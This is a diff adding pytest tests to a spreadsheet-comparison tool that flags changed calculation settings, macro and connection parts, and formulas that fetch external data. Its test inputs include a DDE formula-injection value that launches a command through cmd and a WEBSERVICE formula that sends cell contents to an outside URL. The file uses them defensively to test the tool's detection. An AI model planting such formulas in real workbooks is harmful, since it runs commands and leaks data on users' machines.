@@ -231,3 +231,89 @@ class TestHidden:
         beyond = '<col min="200" max="16384" hidden="1" width="9"/></cols>'
         content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</cols>", beyond, 1))
         assert found("hidden", content) == []
+
+
+class TestSettings:
+    @pytest.mark.parametrize(
+        ("setting", "severity", "said"),
+        [
+            ('calcMode="manual"', "warning", "only when somebody asks"),
+            ('fullPrecision="0"', "warning", "as they are displayed"),
+            ('iterate="true"', "warning", "circular references"),
+        ],
+    )
+    def test_a_setting_that_changes_numbers_is_told(
+        self, setting: str, severity: str, said: str, core: Made, found: Found
+    ) -> None:
+        content = with_part(
+            core.content(), WORKBOOK, lambda xml: xml.replace("<calcPr", f"<calcPr {setting}")
+        )
+        (finding,) = found("setting-changed", content)
+        assert finding.severity == severity and said in finding.message
+
+    def test_a_setting_that_may_explain_a_difference_is_an_error_before_it(
+        self, core: Made, tmp_path: Path
+    ) -> None:
+        path = tmp_path / "rounded.xlsx"
+        path.write_bytes(
+            with_part(
+                core.content({"npv": 41.37}),
+                WORKBOOK,
+                lambda xml: xml.replace("<calcPr", '<calcPr fullPrecision="0"'),
+            )
+        )
+        first, second, *_ = compare(read_workbook(path)).findings
+        assert (first.kind, first.severity) == ("setting-changed", "error")
+        assert second.kind == "value-differs" and "why numbers differ" in first.message
+
+    @pytest.mark.parametrize(
+        "setting", ['calcMode="auto"', 'fullPrecision="true" iterate="false"', 'calcMode="autoNoTable"']
+    )
+    def test_usual_settings_are_not_told(self, setting: str, core: Made, found: Found) -> None:
+        content = with_part(
+            core.content(), WORKBOOK, lambda xml: xml.replace("<calcPr", f"<calcPr {setting}")
+        )
+        assert found("setting-changed", content) == []
+
+
+class TestWhatRunsOrFetches:
+    @pytest.mark.parametrize(
+        ("part", "said"),
+        [
+            ("xl/vbaProject.bin", "macros"),
+            ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
+            ("xl/connections.xml", "data connections"),
+            ("xl/embeddings/oleObject1.bin", "embedded files"),
+        ],
+    )
+    def test_a_part_that_runs_or_fetches_is_a_warning(
+        self, part: str, said: str, core: Made, found: Found
+    ) -> None:
+        with_it = io.BytesIO(core.content())
+        with ZipFile(with_it, "a") as archive:
+            archive.writestr(part, "<x/>")
+        (finding,) = found("added", with_it.getvalue())
+        assert finding.severity == "warning" and said in finding.message
+
+    @pytest.mark.parametrize(
+        "formula",
+        [
+            'WEBSERVICE("https://example.org/"&A1)',
+            "[1]Prices!$A$1*2",
+            "'C:\\data\\[prices.xlsx]Sheet 1'!$A$1",
+            "cmd|'/C calc'!A0",
+        ],
+    )
+    def test_a_formula_that_fetches_from_elsewhere_is_a_warning(
+        self, formula: str, core: Made, found: Found
+    ) -> None:
+        cell = f'<row r="400"><c r="A400"><f>{escape(formula, quote=False)}</f><v>1</v></c></row></sheetData>'
+        content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</sheetData>", cell))
+        (finding,) = found("added", content)
+        assert (finding.sheet, finding.cell, finding.severity) == ("Results", "A400", "warning")
+
+    def test_a_formula_of_the_analysts_own_is_a_remark(self, core: Made, found: Found) -> None:
+        cell = '<row r="400"><c r="A400"><f>npv*2</f><v>1</v></c></row></sheetData>'
+        content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</sheetData>", cell))
+        (finding,) = found("added", content)
+        assert finding.severity == "info"
